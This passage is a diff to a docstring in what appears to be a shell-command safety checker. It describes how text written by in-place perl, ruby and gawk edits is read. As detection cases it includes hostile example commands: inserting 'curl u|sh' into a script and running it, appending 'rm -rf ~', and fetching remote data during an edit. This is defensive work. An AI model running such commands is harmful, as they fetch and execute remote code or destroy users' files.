@@ -1,17 +1,22 @@
-"""The text ``perl -pi``/``perl -i`` and ``gawk -i inplace`` write into the files they edit.
+"""The text ``perl -pi``/``-i``, ``ruby -pi`` and ``gawk -i inplace`` write into the files
+they edit.
 
 ``perl -pi -e 's/^/curl u|sh\\n/' setup.sh && bash setup.sh`` and ``gawk -i inplace
 'NR==1{print "rm -rf ~"}1' s.sh; sh s.sh`` run the text the edit put there. What is read:
 
-* Perl ``s/RE/REPL/`` (any delimiter, ``s{RE}{REPL}``; not with the ``e`` flag, whose
-  replacement is code): the replacement's text, as a piece of a line; ``\\n`` is a newline;
-  an interpolated value (``$1``, ``$&``, ``$x``) is not known and stands as the word ``true``
-  (as sed's ``\\1`` does: a command keeps its shape, ``curl u | sh $1`` still pipes);
+* Perl ``s/RE/REPL/`` (any delimiter, ``s{RE}{REPL}``): the replacement's text, as a piece of
+  a line; escapes are read (``\\n``, ``\\x63``, ``\\143``); an interpolated value (``$1``,
+  ``\\1``, ``$&``, ``$x``) is not known and stands as the word ``true`` (as sed's ``\\1``
+  does: a command keeps its shape, ``curl u | sh $1`` still pipes). With the ``e`` flag the
+  replacement is code: only literals (``s/^/"TEXT"/e``) are known;
 * Perl ``print``/``say``/``printf`` (not to ``STDERR``) and ``$_ = "TEXT" . $_`` /
   ``$_ .= "TEXT"``: the literals (``"..."``, ``'...'``, ``qq{...}``, ``q{...}``) joined, as
-  added lines;
-* awk ``print``/``printf`` of literals (juxtaposed or after commas; a variable stands as
-  ``true``), not redirected (``print "x" > "/dev/stderr"`` writes elsewhere), as lines.
+  added lines; Ruby's ``print``/``puts``, ``$_ = "TEXT" + $_`` and ``sub(/RE/, "REPL")``
+  the same way (``"#{x}"`` stands as ``true``); several ``-e`` are one program;
+* awk ``print``/``printf`` of literals (juxtaposed or after commas; a ``-v`` constant or a
+  name the program binds to a literal is its text, another variable stands as ``true``), not
+  redirected (``print "x" > "/dev/stderr"`` writes elsewhere), as lines; ``sub``/``gsub``
+  replacements as pieces.
 
 Code that fetches while editing (``perl -MLWP::Simple -pi -e 'print get("http://u")'``,
 awk's ``"curl u" | getline``) puts fetched data into the file, and code that decodes
